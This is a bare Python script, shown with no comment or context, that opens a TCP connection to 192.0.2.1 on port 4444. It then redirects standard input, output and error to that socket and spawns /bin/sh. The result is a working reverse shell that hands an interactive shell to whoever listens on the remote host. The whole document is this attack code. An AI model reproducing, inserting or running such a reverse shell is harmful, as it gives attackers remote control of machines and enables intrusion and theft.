import os, pty, socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/sh")
